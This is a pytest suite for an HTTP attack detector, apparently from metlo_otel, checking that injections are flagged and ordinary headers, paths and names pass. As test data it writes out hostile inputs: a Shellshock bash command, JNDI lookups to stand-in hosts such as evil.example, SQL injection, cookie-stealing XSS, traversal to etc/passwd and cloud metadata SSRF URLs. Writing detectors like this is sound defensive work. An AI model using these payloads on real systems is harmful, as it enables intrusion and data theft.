"""Attacks are found in every place of a request, ordinary values are let through."""

# ruff: noqa: E501 - payloads are not folded
from __future__ import annotations

import base64
import csv
import json
import re
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import quote

import pytest

from metlo_otel.analysis import attacks
from metlo_otel.analysis.attacks import Finding, detect, inspect
from metlo_otel.core.categories import ATTACKS as CATEGORIES
from tests.analysis.attack_samples import ATTACKS, ORDINARY
from tests.shared import SHARED, needs_shared

SAMPLES = [(category, payload) for category, payloads in ATTACKS.items() for payload in payloads]

HEADERS = (
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0"),
    ("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Language", "es-ES,es;q=0.9,en;q=0.8"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Cookie", "id=42; sort=name; env=prod; session=eyJhIjoxfQ.Zm9v.c2ln; theme=dark; cat=3; cart={\"a\":[1,2]}"),
    ("Cookie", "_ga=GA1.2.1234.5678; OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jan+01+2024&groups=C0001%3A1%2CC0002%3A0"),
    ("Referer", "http://localhost:3000/search?q=1%202&sort=asc#top"),
    ("Referer", "https://www.example.com/a/../b?redirect=https%3A%2F%2Fother.example%2F"),
    ("Origin", "http://127.0.0.1:8000"),
    ("Host", "localhost:8000"),
    ("X-Forwarded-For", "10.0.0.5, 192.168.1.7"),
    ("Forwarded", 'for="[2001:db8::1]:4711";proto=http;by=203.0.113.43'),
    ("sec-ch-ua", '"Chromium";v="126", "Not/A)Brand";v="24", "Google Chrome";v="126"'),
    ("If-None-Match", 'W/"67ab43", "54ed21", "7892dd"'),
    ("Authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
    ("Authorization", 'Digest username="Mufasa", realm="a@b.c", nonce="dcd98b", uri="/dir/index.html", qop=auth, nc=00000001'),
    ("Content-Type", 'multipart/form-data; boundary="----WebKitFormBoundary7MA4YWxkTrZu0gW"'),
    ("Content-Disposition", 'form-data; name="file"; filename="report (1).pdf"'),
    ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
    ("Cache-Control", "no-cache, max-age=0"),
    ("Via", "1.1 vegur, 1.1 varnish (Varnish/6.0)"),
)  # fmt: skip


def categories(value: str) -> set[str]:
    return {finding.category for finding in inspect(value)}


@pytest.mark.parametrize(("category", "payload"), SAMPLES)
def test_attacks_are_found(category: str, payload: str) -> None:
    """What attackers send is found under its category."""
    assert category in categories(payload)


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_values_pass(value: str) -> None:
    """Names, prose, code, markup and data are no attacks."""
    assert inspect(value) == ()


@pytest.mark.parametrize("category", ["SQLI", "XSS", "COMMAND_EXECUTION", "DIRECTORY_TRAVERSAL"])
def test_percent_encoding_does_not_hide(category: str) -> None:
    """What is found in clear is found percent-encoded twice, but for what was encoded already."""
    plain = [payload for payload in ATTACKS[category] if "%" not in payload]
    lost = [payload for payload in plain if category not in categories(quote(quote(payload, safe=""), safe=""))]
    assert len(lost) <= len(plain) * 0.03, lost


def test_base64_does_not_hide() -> None:
    """A whole value in base64 is read as the text it holds, and only certain findings count there."""
    value = base64.b64encode(b"<script>alert(document.cookie)</script>").decode()
    assert [(found.category, found.confidence) for found in inspect(value)] == [("XSS", "high")]
    assert inspect(f"{value[:16]}\r\n{value[16:]}\n") == inspect(value)


@pytest.mark.parametrize("char", ["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\ud800", "\0"])
@pytest.mark.parametrize("place", ["reqQuery.a", "reqBody.a", "reqHeaders.X-A", "reqHeaders.Cookie", "reqPath"])
def test_what_nobody_sees_hides_nothing(char: str, place: str) -> None:
    """A value of nothing but characters without width is read as any other, and so is what stands behind it."""
    attack = "reqBody.q", "1' union select name, password from users--"
    found = detect([(place, char), (place, char * 20), ("reqBody." + char, "1"), attack])
    assert "SQLI" in {finding.category for finding in found["reqBody.q"]}


def test_a_finding_says_what_made_it() -> None:
    """Category, confidence and the fragment of the value, in the value's own case."""
    assert inspect("x <IMG SRC=x OnError=alert(1)> y") == (Finding("XSS", "high", "<IMG SRC=x OnError=alert(1)"),)


def test_each_category_once_and_the_certain_first() -> None:
    """A value that is several attacks gives one finding of each category."""
    found = inspect("http://localhost/?a=<script>alert(1)</script>'or/**/1=1--")
    assert [(finding.category, finding.confidence) for finding in found] == [
        ("SQLI", "high"),
        ("XSS", "high"),
        ("SSRF", "low"),
    ]


def test_every_category_has_samples() -> None:
    """No category is announced that nothing tests."""
    assert {*ATTACKS, "SENSITIVE_FILE"} == set(CATEGORIES)  # that one is of a request's path


@pytest.mark.parametrize(
    ("key", "category"),
    [
        ("reqQuery.user[$ne]", "NOSQLI"),
        ("reqBody.password.$gt", "NOSQLI"),
        ("reqBody.filter.$where", "NOSQLI"),
        ("reqBody.query.__schema.types", "GRAPHQL_INTROSPECTION"),
        ("reqQuery.<script>alert(1)</script>", "XSS"),
        ("reqQuery.id' or 1=1--", "SQLI"),
    ],
)
def test_names_are_read(key: str, category: str) -> None:
    """An attack in a name is reported under the name's key."""
    assert [finding.category for finding in detect([(key, "1")])[key]] == [category]


@pytest.mark.parametrize(
    "key",
    [
        "reqQuery.$filter",
        "reqQuery.$top",
        "reqBody.$ref",
        "reqBody.items.[].name",
        "reqQuery.tags[]",
        "reqBody.a-b.c_d",
    ],
)
def test_ordinary_names_pass(key: str) -> None:
    """OData's and JSON Schema's dollars are no operators of MongoDB."""
    assert detect([(key, "1")]) == {}


def _basic(credentials: str) -> str:
    return "Basic " + base64.b64encode(credentials.encode()).decode()


@pytest.mark.parametrize(("name", "value"), HEADERS)
def test_ordinary_headers_pass(name: str, value: str) -> None:
    """Headers are full of signs; what browsers and proxies send is no attack."""
    assert detect([(f"reqHeaders.{name}", value)]) == {}


@pytest.mark.parametrize(
    ("name", "value", "category"),
    [
        ("User-Agent", "() { :;}; /bin/bash -c 'id'", "COMMAND_EXECUTION"),
        ("User-Agent", "${jndi:ldap://x.example/a}", "LOG4SHELL"),
        ("User-Agent", "' or sleep(5)#", "SQLI"),
        ("Referer", "javascript:alert(1)", "XSS"),
        ("X-Forwarded-For", "1.2.3.4' and sleep(5)--", "SQLI"),
        ("Cookie", "a=1; id=1' union select 1,2--; b=2", "SQLI"),
        ("X-Api-Version", "${${lower:j}ndi:rmi://x.example/a}", "LOG4SHELL"),
        ("Authorization", _basic("1' union select name, password from users--:x"), "SQLI"),
        ("Authorization", _basic("alice:<script>alert(1)</script>").replace("Basic", "basic "), "XSS"),
        ("Proxy-Authorization", _basic("' or sleep(5)#:"), "SQLI"),
    ],
)
def test_attacks_in_headers(name: str, value: str, category: str) -> None:
    """Headers and cookies are checked."""
    key = f"reqHeaders.{name}"
    assert category in {finding.category for finding in detect([(key, value)])[key]}


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("User-Agent", True), ("Accept-Language", True), ("Sec-CH-UA", True), ("Sec-Fetch-Mode", True),
        ("Referer", False), ("X-Auth-Token", False), ("Authorization", False), ("X-Amz-Security-Token", False),
        ("X-CSRF-Token", False), ("Sec-WebSocket-Protocol", False), ("Cookie", False),
    ],
)  # fmt: skip
def test_only_public_headers_are_remembered(name: str, kept: bool) -> None:
    """Of headers only those are kept in memory that never hold a secret; of a Referer none with a query."""
    attacks._usual.cache_clear()
    detect([(f"reqHeaders.{name}", "https://a.example/?token=s3cr3t")])
    assert attacks._usual.cache_info().currsize == kept


@pytest.mark.parametrize("path", ["/a/../b", "/static/..%2f..%2fetc/passwd", "/..;/manager", "/a/%2e%2e/b", "/a/..\\b"])
def test_traversal_of_the_path(path: str) -> None:
    """Clients resolve `..` themselves; one that stands in a path was put there."""
    assert "DIRECTORY_TRAVERSAL" in {finding.category for finding in detect([("reqPath", path)])["reqPath"]}


@pytest.mark.parametrize(
    "path", ["/", "/a/b", "/users/O'Brien", "/files/a..b.txt", "/v1.2/x.json", "/.well-known/x", "/c++/a&b"]
)
def test_ordinary_paths_pass(path: str) -> None:
    """Dots and signs in names are no traversal."""
    assert detect([("reqPath", path)]) == {}


def test_introspection_is_reported_at_the_schema() -> None:
    """A GraphQL query's introspection goes where Metlo's backend looks for it."""
    found = detect([("reqBody.query", "{ __schema { types { name } } }")])
    assert {key: [finding.category for finding in findings] for key, findings in found.items()} == {
        "reqBody.query.__schema": ["GRAPHQL_INTROSPECTION"]
    }


def test_the_end_of_a_long_value_is_read() -> None:
    """Padding hides an attack neither at the beginning nor at the end of a megabyte."""
    padding = "lorem ipsum " * 90_000
    assert categories("<script>alert(1)</script>" + padding) == {"XSS"}
    assert categories(padding + "<script>alert(1)</script>") == {"XSS"}


def test_threads_agree() -> None:
    """There is no state: many threads find what one finds."""
    values = [payload for _, payload in SAMPLES] * 3
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(inspect, values)) == [inspect(value) for value in values]


def _fields(prefix: str, value: Any) -> Iterator[tuple[str, str]]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from _fields(f"{prefix}.{name}", inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _fields(f"{prefix}.[]", inner)
    elif isinstance(value, str):
        yield prefix, value


def _request_fields(request: dict[str, Any]) -> Iterator[tuple[str, str]]:
    yield "reqPath", request["url"]["path"]
    for pair in request["url"]["parameters"]:
        yield f"reqQuery.{pair['name']}", pair["value"]
    for pair in request["headers"]:
        yield f"reqHeaders.{pair['name']}", pair["value"]
    try:
        body = json.loads(request["body"])
    except ValueError:
        body = request["body"]
    yield from _fields("reqBody", body)
    for argument in re.findall(r'"""(.*?)"""', request["body"].replace('\\"', '"')):
        yield "reqBody.query.a.__args.b", argument


@needs_shared
def test_recordings() -> None:
    """What the real agent detects is detected, at the same key."""
    assert SHARED is not None
    seen = 0
    for line in (SHARED / "contract/recorded/golden_full.jsonl").read_text("utf-8").splitlines():
        case = json.loads(line)
        theirs = (case["out"].get("processedTraceData") or {}).get("attackDetections") or {}
        ours = detect(_request_fields(case["in"]["request"]))
        for key, types in theirs.items():
            seen += 1
            assert set(types) <= {finding.category for finding in ours.get(key, [])}, (case["case"], key)
        if not theirs:
            assert ours == {}, case["case"]
    assert seen >= 12


@needs_shared
def test_rates() -> None:
    """The rates that are promised hold on the labelled data, of which nothing was learned."""
    assert SHARED is not None
    wanted = {
        "sqli": ("SQLI", 0.995),
        "xss": ("XSS", 0.98),
        "path-traversal": ("DIRECTORY_TRAVERSAL", 0.95),
        "cmdi": ("COMMAND_EXECUTION", 0.90),
    }
    total: Counter[str] = Counter()
    found: Counter[str] = Counter()
    with (SHARED / "data/http_params.csv").open(newline="", encoding="utf-8") as lines:
        for row in csv.DictReader(lines):
            kind = row["attack_type"]
            seen = categories(row["payload"])
            total[kind] += 1
            found[kind] += wanted[kind][0] in seen if kind in wanted else bool(seen)
    assert found["norm"] <= total["norm"] * 0.0005
    assert {
        kind: found[kind] / total[kind] for kind, (_, rate) in wanted.items() if found[kind] / total[kind] < rate
    } == {}


METADATA = ("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/")


@pytest.mark.parametrize("url", METADATA)
def test_addresses_in_headers_that_speak_of_addresses_are_no_forged_request(url: str) -> None:
    """Nobody fetches what Referer, Origin, Host or a proxy's headers name, so a cloud's own address there is no attack;
    in any other header, as in a parameter, it is one.
    """
    own = ("Referer", "Origin", "Host", "Forwarded", "Via", "X-Original-URL", "X-Forwarded-Host", "X-Forwarded-For")
    for name in own:
        assert detect([(f"reqHeaders.{name}", url)]) == {}, name
        assert detect([(f"reqHeaders.{name.lower()}", url)]) == {}, name
    for name in ("X-Callback", "X-Webhook-Url", "User-Agent", "Cookie"):
        value = f"next={url}" if name == "Cookie" else url
        (found,) = detect([(f"reqHeaders.{name}", value)])[f"reqHeaders.{name}"]
        assert (found.category, found.confidence) == ("SSRF", "high"), name
    assert [finding.category for finding in detect([("reqQuery.file", url)])["reqQuery.file"]] == ["SSRF"]


def test_other_attacks_in_such_headers_are_attacks() -> None:
    """Only the address is passed over: what else stands in a Referer is what it is anywhere."""
    (found,) = detect([("reqHeaders.Referer", "${jndi:ldap://evil.example/a}")])["reqHeaders.Referer"]
    assert found.category == "LOG4SHELL"
